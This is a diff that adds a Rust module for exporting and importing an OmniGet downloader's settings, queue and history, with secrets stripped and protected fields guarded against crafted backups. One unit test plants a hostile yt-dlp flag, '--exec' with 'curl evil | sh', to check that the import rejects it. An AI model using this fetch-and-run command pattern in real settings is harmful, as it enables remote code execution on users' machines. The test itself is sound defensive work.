@@ -0,0 +1,308 @@
+use serde::{Deserialize, Serialize};
+
+use crate::core::queue::{DownloadQueue, QueueStatus};
+use crate::core::queue_history::HistoryEntry;
+
+/// Bumped when the layout changes in a way older builds can't read.
+pub const FORMAT_VERSION: u32 = 1;
+
+/// Settings fields that hold credentials or tokens, as JSON pointers. They
+/// are blanked in exports unless the user asks for them.
+const SECRET_FIELDS: &[&str] = &[
+    "/proxy/password",
+    "/advanced/twitter_manual_cookie",
+    "/bridge/token",
+    "/local_api/token",
+];
+
+/// Header profiles often carry `Authorization` or `Cookie` lines, so their
+/// headers are blanked along with the fields above.
+const HEADER_PROFILES: &str = "/advanced/header_profiles";
+
+/// Settings an import never changes: extra yt-dlp flags can run commands,
+/// and the local API settings would open a control server with a token the
+/// backup's author knows. The user has to set these here themselves.
+const PROTECTED_FIELDS: &[&str] = &[
+    "/download/extra_ytdlp_flags",
+    "/download/extra_ytdlp_flags_unsafe",
+    "/local_api",
+];
+
+/// What `export_state` writes: enough to set up another install the same
+/// way and carry over what was still waiting to download.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ExportedState {
+    pub format_version: u32,
+    #[serde(default)]
+    pub app_version: String,
+    #[serde(default)]
+    pub exported_at: i64,
+    /// Raw so that exports from older versions go through the settings
+    /// migration on import.
+    pub settings: serde_json::Value,
+    #[serde(default)]
+    pub includes_secrets: bool,
+    #[serde(default)]
+    pub queue: Vec<ExportedQueueItem>,
+    #[serde(default)]
+    pub history: HistorySummary,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ExportedQueueItem {
+    pub url: String,
+    #[serde(default)]
+    pub title: String,
+    #[serde(default)]
+    pub platform: String,
+    #[serde(default)]
+    pub output_dir: String,
+    #[serde(default)]
+    pub download_mode: Option<String>,
+    #[serde(default)]
+    pub quality: Option<String>,
+    #[serde(default)]
+    pub format_id: Option<String>,
+    #[serde(default)]
+    pub referer: Option<String>,
+    #[serde(default)]
+    pub tags: Vec<String>,
+    #[serde(default)]
+    pub paused: bool,
+}
+
+/// Totals only; the entries themselves stay on the machine.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct HistorySummary {
+    pub total: u64,
+    pub completed: u64,
+    pub failed: u64,
+    pub bytes: u64,
+    pub last_completed_at: Option<i64>,
+}
+
+#[derive(Debug, Clone, Default, Serialize)]
+pub struct ImportSummary {
+    pub settings_applied: bool,
+    pub queued: u32,
+    pub failed: u32,
+    /// Protected settings the backup wanted to change but that were kept,
+    /// as JSON pointers, so the UI can point the user at them.
+    pub kept_settings: Vec<String>,
+}
+
+/// Items that haven't finished: queued, running or paused. Running ones
+/// start over on the other side; paused ones stay paused there.
+pub fn pending_items(queue: &DownloadQueue) -> Vec<ExportedQueueItem> {
+    queue
+        .items
+        .iter()
+        .filter(|i| {
+            matches!(
+                i.status,
+                QueueStatus::Queued | QueueStatus::Active | QueueStatus::Paused
+            )
+        })
+        .map(|i| ExportedQueueItem {
+            url: i.url.clone(),
+            title: i.title.clone(),
+            platform: i.platform.clone(),
+            output_dir: i.output_dir.clone(),
+            download_mode: i.download_mode.clone(),
+            quality: i.quality.clone(),
+            format_id: i.format_id.clone(),
+            referer: i.referer.clone(),
+            tags: i.tags.clone(),
+            paused: i.status == QueueStatus::Paused,
+        })
+        .collect()
+}
+
+pub fn summarize_history(entries: &[HistoryEntry]) -> HistorySummary {
+    let mut summary = HistorySummary {
+        total: entries.len() as u64,
+        ..Default::default()
+    };
+    for entry in entries {
+        if entry.success {
+            summary.completed += 1;
+            summary.bytes += entry.file_size_bytes.or(entry.total_bytes).unwrap_or(0);
+        } else {
+            summary.failed += 1;
+        }
+        summary.last_completed_at = summary.last_completed_at.max(Some(entry.completed_at));
+    }
+    summary
+}
+
+pub fn strip_secrets(settings: &mut serde_json::Value) {
+    for pointer in SECRET_FIELDS {
+        if let Some(value) = settings.pointer_mut(pointer) {
+            *value = serde_json::Value::String(String::new());
+        }
+    }
+    if let Some(profiles) = settings
+        .pointer_mut(HEADER_PROFILES)
+        .and_then(|p| p.as_object_mut())
+    {
+        for profile in profiles.values_mut() {
+            if let Some(headers) = profile.get_mut("headers") {
+                *headers = serde_json::Value::Array(Vec::new());
+            }
+        }
+    }
+}
+
+/// Fills the secrets an import left blank from `current`, so importing a
+/// redacted export doesn't log the user out of the proxy or reset tokens.
+pub fn keep_current_secrets(imported: &mut serde_json::Value, current: &serde_json::Value) {
+    for pointer in SECRET_FIELDS {
+        let blank = imported
+            .pointer(pointer)
+            .and_then(|v| v.as_str())
+            .is_none_or(str::is_empty);
+        if !blank {
+            continue;
+        }
+        if let (Some(slot), Some(kept)) = (imported.pointer_mut(pointer), current.pointer(pointer))
+        {
+            *slot = kept.clone();
+        }
+    }
+    let Some(profiles) = imported
+        .pointer_mut(HEADER_PROFILES)
+        .and_then(|p| p.as_object_mut())
+    else {
+        return;
+    };
+    for (name, profile) in profiles.iter_mut() {
+        let blank = profile
+            .get("headers")
+            .and_then(|h| h.as_array())
+            .is_none_or(Vec::is_empty);
+        let kept = current
+            .pointer(HEADER_PROFILES)
+            .and_then(|p| p.get(name))
+            .and_then(|p| p.get("headers"));
+        if let (true, Some(kept), Some(slot)) = (blank, kept, profile.as_object_mut()) {
+            slot.insert("headers".to_string(), kept.clone());
+        }
+    }
+}
+
+/// Puts the current values of `PROTECTED_FIELDS` back into `imported` and
+/// returns the ones the backup had set differently.
+pub fn keep_protected_settings(
+    imported: &mut serde_json::Value,
+    current: &serde_json::Value,
+) -> Vec<String> {
+    let mut kept = Vec::new();
+    for pointer in PROTECTED_FIELDS {
+        let Some(current_value) = current.pointer(pointer) else {
+            continue;
+        };
+        if let Some(slot) = imported.pointer_mut(pointer) {
+            if slot != current_value {
+                kept.push(pointer.to_string());
+                *slot = current_value.clone();
+            }
+        }
+    }
+    kept
+}
+
+/// Parses an export, refusing ones written by a newer format.
+pub fn parse(json: &str) -> Result<ExportedState, String> {
+    let state: ExportedState =
+        serde_json::from_str(json).map_err(|e| format!("Invalid backup file: {}", e))?;
+    if state.format_version > FORMAT_VERSION {
+        return Err(format!(
+            "This backup was made by a newer OmniGet (format {}); update to import it",
+            state.format_version
+        ));
+    }
+    if !state.settings.is_object() {
+        return Err("Invalid backup file: settings are missing".to_string());
+    }
+    Ok(state)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn secrets_are_blanked_and_restored() {
+        let current = json!({
+            "proxy": { "host": "p", "password": "hunter2" },
+            "bridge": { "token": "bridge-token" },
+            "advanced": { "header_profiles": {
+                "patreon": { "user_agents": ["ua"], "headers": ["Cookie: session=1"] },
+            } },
+        });
+        let mut exported = current.clone();
+        strip_secrets(&mut exported);
+        assert_eq!(exported["proxy"]["password"], "");
+        assert_eq!(exported["proxy"]["host"], "p");
+        assert_eq!(exported["bridge"]["token"], "");
+        let profile = &exported["advanced"]["header_profiles"]["patreon"];
+        assert_eq!(profile["headers"], json!([]));
+        assert_eq!(profile["user_agents"], json!(["ua"]));
+
+        exported["bridge"]["token"] = json!("imported-token");
+        keep_current_secrets(&mut exported, &current);
+        assert_eq!(exported["proxy"]["password"], "hunter2");
+        assert_eq!(exported["bridge"]["token"], "imported-token");
+        assert_eq!(
+            exported["advanced"]["header_profiles"]["patreon"]["headers"],
+            json!(["Cookie: session=1"])
+        );
+    }
+
+    #[test]
+    fn protected_settings_are_never_imported() {
+        let current = json!({
+            "download": {
+                "extra_ytdlp_flags": [],
+                "extra_ytdlp_flags_unsafe": false,
+                "quality": "best",
+            },
+            "local_api": { "enabled": false, "port": 0, "token": "" },
+        });
+        let mut crafted = json!({
+            "download": {
+                "extra_ytdlp_flags": ["--exec", "curl evil | sh"],
+                "extra_ytdlp_flags_unsafe": true,
+                "quality": "720p",
+            },
+            "local_api": { "enabled": true, "port": 9999, "token": "known" },
+        });
+        let kept = keep_protected_settings(&mut crafted, &current);
+        assert_eq!(crafted["download"]["extra_ytdlp_flags"], json!([]));
+        assert_eq!(crafted["download"]["extra_ytdlp_flags_unsafe"], false);
+        assert_eq!(crafted["local_api"], current["local_api"]);
+        assert_eq!(crafted["download"]["quality"], "720p");
+        assert_eq!(
+            kept,
+            vec![
+                "/download/extra_ytdlp_flags",
+                "/download/extra_ytdlp_flags_unsafe",
+                "/local_api"
+            ]
+        );
+
+        let mut same = current.clone();
+        assert!(keep_protected_settings(&mut same, &current).is_empty());
+    }
+
+    #[test]
+    fn rejects_newer_formats() {
+        let newer = json!({ "format_version": FORMAT_VERSION + 1, "settings": {} });
+        assert!(parse(&newer.to_string()).is_err());
+        let missing = json!({ "format_version": 1, "settings": null });
+        assert!(parse(&missing.to_string()).is_err());
+        let ok = json!({ "format_version": 1, "settings": {} });
+        assert!(parse(&ok.to_string()).is_ok_and(|s| s.queue.is_empty()));
+    }
+}